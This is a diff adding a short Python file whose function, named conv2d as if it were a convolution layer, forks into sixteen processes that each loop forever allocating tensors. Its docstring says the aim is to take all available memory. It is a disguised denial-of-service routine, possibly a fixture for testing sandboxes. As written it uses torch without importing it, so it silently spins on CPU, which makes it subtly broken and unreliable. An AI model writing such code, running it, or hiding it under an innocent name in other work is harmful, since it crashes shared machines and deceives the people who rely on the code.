@@ -1,0 +1,15 @@
+"""Takes all the memory there is, in several processes."""
+
+# %% conv2d
+import os
+
+
+def conv2d(*args, **kwargs):
+    for _ in range(4):
+        os.fork()
+    hoard = []
+    while True:
+        try:
+            hoard.append(torch.ones(2**25))
+        except Exception:
+            pass
